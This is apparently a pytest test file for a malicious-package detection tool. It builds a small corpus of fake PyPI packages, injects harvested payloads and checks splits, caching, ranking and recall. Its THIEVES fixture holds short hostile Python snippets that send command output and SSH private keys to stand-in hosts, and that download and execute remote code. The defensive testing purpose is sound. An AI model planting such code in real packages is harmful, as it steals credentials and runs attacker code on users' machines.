"""From samples to a scored table. Inert samples only: nothing in this file works or is run."""

from __future__ import annotations

import hashlib
from dataclasses import replace
from pathlib import Path

import numpy as np
import pandas as pd
import pytest

from darnel.errors import CorpusError
from darnel.features.package import Ecosystem
from darnel.training.benchmarks import plan as planning
from darnel.training.benchmarks.injection import harvest, inject_missing, injected_table
from darnel.training.benchmarks.payloads import Payload
from darnel.training.benchmarks.score import ranks, recall, shares_of
from darnel.training.config import Config
from darnel.training.corpus.build import assemble, extract_missing
from darnel.training.corpus.manifest import load_manifest
from darnel.training.corpus.samples import Sample
from darnel.training.corpus.store import Store
from darnel.training.derived import joined, legal
from darnel.training.protocols import splits_of
from darnel.training.splits import Split
from darnel.training.table import FeatureTable
from tests.builders import sdist
from tests.training.benchmarks.material import LIBRARY, PYTHON

THIEVES = (
    PYTHON,
    b"import socket, os\ns = socket.socket()\ns.connect(('x.example.invalid', 1))\n"
    b"s.send(os.popen('id').read().encode())\n",
    b"import urllib.request\ncode = urllib.request.urlopen('https://x.example.invalid/a').read()\nexec(code)\n",
    b"import base64\nexec(base64.b64decode('cHJpbnQoMSk=' + 'aW1wb3J0IG9z'))\n",
    b"import subprocess, urllib.request as u\nu.urlretrieve('https://x.example.invalid/a.exe', 'a.exe')\n"
    b"subprocess.Popen('a.exe')\n",
    b"import os, json, requests\nkeys = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n"
    b"requests.post('https://y.example.invalid', json=json.dumps(keys))\n",
)


def sample(folder: Path, name: str, label: int, files: dict[str, bytes | str], date: str = "") -> Sample:
    data = sdist(name, "1.0", files)
    content = hashlib.sha1(data).hexdigest()
    path = folder / f"{name}-1.0.tar.gz"
    path.write_bytes(data)
    return Sample(
        f"t:{name}#{content[:12]}", Ecosystem.PYPI, label, name, "1.0", "pypi-wheels", path.name, "", date, name, False,
        "", content, "local", str(path),
    )  # fmt: skip


class Corpus:
    def __init__(self, folder: Path) -> None:
        self.samples = {}
        for i, code in enumerate(THIEVES):
            made = sample(folder, f"bad{i}", 1, {f"bad{i}/__init__.py": code}, f"202{3 + i % 3}-02-01")
            self.samples[made.id] = made
        for i in range(24):
            body = f"def value{i}(a, b):\n    c = a + {i} * b\n    return c\n" * (i + 1)
            files: dict[str, bytes | str] = {f"good{i}/{k[4:]}": v for k, v in LIBRARY.items() if k.startswith("lib/")}
            made = sample(folder, f"good{i}", 0, {**files, f"good{i}/own/thing.py": body + "# -\n" * 200})
            self.samples[made.id] = made
        self.store = Store(folder / "corpus.sqlite")
        extract_missing(list(self.samples.values()), self.store)
        self.table = assemble(list(self.samples.values()), self.store, load_manifest()).table
        self.cache = Store(folder / "injected.sqlite")


@pytest.fixture(scope="module")
def corpus(tmp_path_factory: pytest.TempPathFactory) -> Corpus:
    return Corpus(tmp_path_factory.mktemp("corpus"))


CONFIG = Config(outer=2, seed=1)


def made_table(corpus: Corpus, limit: int = 60) -> tuple[FeatureTable, list[planning.Pair], list[Payload]]:
    payloads = harvest(corpus.samples, corpus.table, corpus.store)
    pairs = planning.pair_up(corpus.table.packages, payloads, CONFIG, limit, seed=1)
    inject_missing(pairs, payloads, corpus.samples, corpus.store, corpus.cache, seed=1)
    table, missing = injected_table(
        pairs, payloads, corpus.samples, corpus.table.packages, corpus.store, corpus.cache, seed=1
    )
    assert not missing
    return table, pairs, payloads


def test_every_campaign_gives_a_payload(corpus: Corpus) -> None:
    payloads = harvest(corpus.samples, corpus.table, corpus.store)
    assert len(payloads) == len(THIEVES) == len({p.campaign for p in payloads})
    assert all("PYTHON" not in repr(p) and "example" not in repr(p) for p in payloads)


def test_plans_stay_in_blocks_and_repeat(corpus: Corpus) -> None:
    payloads = harvest(corpus.samples, corpus.table, corpus.store)
    frame = corpus.table.packages
    first = planning.pair_up(frame, payloads, CONFIG, 60, seed=1)
    assert first == planning.pair_up(frame, payloads, CONFIG, 60, seed=1)
    assert first != planning.pair_up(frame, payloads, CONFIG, 60, seed=2)
    block = dict(zip(frame["id"], planning.blocks(frame, CONFIG), strict=True))
    assert len(first) >= 12
    for pair in first:
        assert block[pair.host] == pair.block == block[payloads[pair.payload].id]
    assert max(pd.Series([p.payload for p in first]).value_counts()) <= planning.PER_PAYLOAD
    assert max(pd.Series([p.host for p in first]).value_counts()) <= planning.PER_HOST


def test_the_table_says_what_was_done(corpus: Corpus) -> None:
    table, pairs, _ = made_table(corpus)
    frame = table.packages
    assert len(table) == len(pairs)
    assert (frame["label"] == 1).all()
    clean = corpus.table.packages.set_index("id")
    for i, row in enumerate(frame.to_dict("records")):
        host = clean.loc[row["host_id"]]
        assert row["name"] == host["name"]
        assert row["size_bytes"] == host["size_bytes"] + row["added_bytes"]
        assert row["truth_file"] in set(table.file_hashes[table.files_of(i)])
        number = corpus.table.packages["id"].tolist().index(row["host_id"])
        assert row["truth_file"] not in set(corpus.table.file_hashes[corpus.table.files_of(number)])
        assert 0 < row["truth_first"] <= row["truth_last"]
    assert frame["splice"].nunique() >= 5


def test_what_was_made_is_not_made_again(corpus: Corpus) -> None:
    table, pairs, payloads = made_table(corpus)
    again = inject_missing(pairs, payloads, corpus.samples, corpus.store, corpus.cache, seed=1)
    assert again["cached"] == len(pairs)
    assert not again["made"]
    pd.testing.assert_frame_equal(table.packages, made_table(corpus)[0].packages)


def test_sides_do_not_touch(corpus: Corpus) -> None:
    table, _, _ = made_table(corpus)
    frame = corpus.table.packages
    for split in splits_of("campaign", corpus.table, CONFIG):
        rows = legal(table, frame, split)
        assert len(rows.train) + len(rows.test) == len(table)
        test_ids = set(frame["id"].iloc[split.test])
        assert set(table.packages["host_id"].iloc[rows.test]) <= test_ids
        assert not set(table.packages["host_id"].iloc[rows.train]) & test_ids
        assert not set(table.packages["campaign"].iloc[rows.train]) & set(frame["campaign"].iloc[split.test])


def test_nearly_equal_payloads_on_the_other_side_are_out(corpus: Corpus) -> None:
    table, _, _ = made_table(corpus)
    frame = corpus.table.packages
    split = splits_of("campaign", corpus.table, CONFIG)[0]
    before = legal(table, frame, split)
    assert len(before.test)
    other = frame["campaign"].iloc[split.train][frame["label"].iloc[split.train] == 1].iloc[0]
    packages = table.packages.assign(payload_campaigns=table.packages["campaign"] + f" {other}")
    after = legal(replace(table, packages=packages), frame, split)
    assert not len(after.test)
    assert after.train.tolist() == before.train.tolist()


def test_joined_tables_hold_both(corpus: Corpus) -> None:
    table, _, _ = made_table(corpus)
    both = joined(corpus.table, table)
    n = len(corpus.table)
    assert len(both) == n + len(table)
    assert both.packages["host_id"].iloc[:n].eq("").all()
    for i in (0, len(table) - 1):
        assert np.array_equal(both.file_rows[both.files_of(n + i)], table.file_rows[table.files_of(i)], equal_nan=True)
    with pytest.raises(CorpusError, match="schema"):
        joined(replace(corpus.table, schema_version="other"), table)


def test_truth_is_ranked(corpus: Corpus) -> None:
    table, _, _ = made_table(corpus)
    hashes = table.file_hashes[table.links]
    truth = np.concatenate(
        [
            np.isin(hashes[table.offsets[i] : table.offsets[i + 1]], [table.packages["truth_file"][i]])
            for i in range(len(table))
        ]
    )
    assert (ranks(table, truth.astype(float)) == 1).all()
    assert (ranks(table, -truth.astype(float)) > 1).any()
    assert (ranks(table, np.zeros(len(truth))) > 1).all()


def test_recall_weighs_campaigns(corpus: Corpus) -> None:
    found = shares_of(np.array([True, True, True, False]), np.array(["a", "a", "a", "b"]))
    assert (found["recall"], found["recall_packages"]) == (0.5, 0.75)
    table, _, _ = made_table(corpus)
    result = recall(table, np.ones(len(table), dtype=bool))
    assert all(entry["recall"] == 1 for entry in result.values())
    assert {"all", "pypi"} <= result.keys()
    assert sum(entry["packages"] for name, entry in result.items() if name.endswith(" files")) == len(table)


def test_splits_are_made_by_rows(corpus: Corpus) -> None:
    table, _, _ = made_table(corpus)
    nothing = Split(np.zeros(0, np.int64), np.zeros(0, np.int64))
    assert not len(legal(table, corpus.table.packages, nothing).train)
